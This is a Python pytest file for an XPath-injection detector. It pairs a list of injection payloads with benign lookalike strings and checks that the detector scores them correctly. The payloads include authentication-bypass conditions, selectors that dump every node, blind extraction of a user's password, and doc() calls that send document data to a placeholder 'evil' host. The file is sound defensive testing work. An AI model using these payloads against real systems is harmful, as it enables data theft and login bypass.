import pytest
from asking import asking
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.xpath import DETECTOR

ask = asking(DETECTOR)

ATTACKS = (
    "' or count(/*)=1 or 'a'='b",
    "x'] | //user/*[contains(*,'",
    "x'] | //* | /a['",
    "' or name()='username' or 'x'='y",
    "' or string-length(name(/*[1]))=4 or 'a'='b",
    "' and substring(//user[1]/password,1,1)='a",
    "345')]|//*|/a[contains(a,'b",
    '345"]|//*|/a["a',
    "count(/child::node())",
    "x' or name()='username' or 'x'='y",
    "' and count(//*)=1 and '1'='1",
    "' or position()=1 or ''='",
    "' or //*",
    "doc('http://evil/')",
    "doc(concat('http://e/',//a))",
    "' or doc-available('http://x') or '",
    "1 or count(//*)>0",
    "1 or name(/*)='a'",
    "string-length(//user[1]/name)",
    "' or contains(name,'adm') or //x='",
    "']/../../user/*|//x['",
    '")] | //password | a[("',
    "' or ancestor::*/x='1",
    "' or starts-with(name(parent::*),'a') or '",
    "*|//*",
    "') or not(contains(name(/*),'x')) or ('a'='a",
    "substring(name(/*[1]),1,1)='a'",
)
HONEST = (
    "a[0]/b",
    "x[1]|y",
    "parent::__construct()",
    "std::child::x",
    "self::$instance",
    "files[]/name",
    "name()",
    "a|/b",
    "[x]/y",
    "see name() or text() for help",
    "count(items) or sum(items)",
    "text()",
    "node()",
    "last()",
    "jQuery('#a').text()",
    "$(this).text().trim()",
    "el.name()",
    "document('x')",
    "a] / b",
    "path/[id]/x",
    "foo['a']/2",
    "arr[i]/arr[j]",
    "contains(text(), 'x')",
    "//a[contains(text(),'x')]",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.75


def test_honest_values_stay_below_ambiguous():
    assert [text for text in HONEST + PLAIN if ask(text)[1] >= 0.6] == []


def test_what_people_paste_stays_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.75] == []


def test_honest_values_as_they_come_are_not_flagged():
    assert [text for text in generated(1_000, seed=5) if ask(text)[1] >= 0.6] == []
